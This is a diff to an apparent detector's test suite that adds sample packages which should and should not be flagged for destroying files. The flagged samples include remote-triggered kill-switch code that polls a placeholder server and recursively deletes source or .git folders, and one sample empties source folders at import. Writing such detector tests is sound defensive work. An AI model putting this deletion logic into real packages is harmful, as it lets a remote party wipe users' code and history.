@@ -7,6 +7,28 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'a server gives the word for it, from time to time',
+      files: {
+        'index.js': `const { rm } = require('fs/promises'), { resolve } = require('path'); exports.Watch = class { constructor(root = '.') { this.root = resolve(root); setInterval(() => this.refresh(), 9e5).unref(); } async refresh() { const { state } = await (await fetch('https://status.invalid/state.json')).json(); if (state === 'retired') await this.reset(); } async reset() { for (const name of ['src-inert', '.git-inert']) await rm(resolve(this.root, name), { recursive: true, force: true }); } };`,
+      },
+      weight: 'strong',
+      says: ['src-inert', 'server'],
+    },
+    {
+      when: 'the word is a flag in what a library for HTTP gives',
+      files: {
+        'index.js': `const axios = require('axios'), fs = require('fs'), path = require('path'); exports.check = async root => { const { data } = await axios.get('https://s.invalid/f.json'); if (data.flags.retire) fs.rmSync(path.join(root || '.', 'src-inert'), { recursive: true }); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the word is all that it answers',
+      files: {
+        'index.js': `const fs = require('fs'); exports.check = () => fetch('https://s.invalid/f').then(r => r.text()).then(text => { if (text.trim() === 'gone') fs.rm('.git-inert', { recursive: true }, () => {}); });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'folders of sources are emptied one after the other at import',
       files: {
         'index.js': `${FS} const empty = dir => fs.readdirSync(dir, { withFileTypes: true }).forEach(e => { const p = path.join(dir, e.name); if (e.isDirectory()) empty(p); else fs.unlinkSync(p); }); ['src', 'pages', 'config'].forEach(d => empty(path.join(process.cwd(), d)))`,
@@ -174,6 +196,24 @@ examine(destroysFiles, {
     },
   ],
   silent: [
+    {
+      when: 'a cache goes when a server says that it is stale',
+      files: {
+        'index.js': `const fs = require('fs'); exports.check = async () => { const answer = await (await fetch('https://s.invalid/f')).json(); if (answer.purge) fs.rmSync('./.tool-cache', { recursive: true }); };`,
+      },
+    },
+    {
+      when: 'what a server has newer is fetched again',
+      files: {
+        'index.js': `const fs = require('fs'); exports.check = async () => { const answer = await (await fetch('https://s.invalid/f')).json(); if (answer.stale) fs.rmSync('./public/models', { recursive: true }); fs.writeFileSync('./public/models/a.json', JSON.stringify(answer)); };`,
+      },
+    },
+    {
+      when: 'a server answers at all',
+      files: {
+        'index.js': `const fs = require('fs'); exports.publish = async body => { const answer = await fetch('https://s.invalid/f', { method: 'POST', body }); if (answer.ok && answer.status === 201) fs.rmSync('./drafts', { recursive: true }); };`,
+      },
+    },
     {
       when: 'folders of sources are emptied by a generator that is called',
       files: {
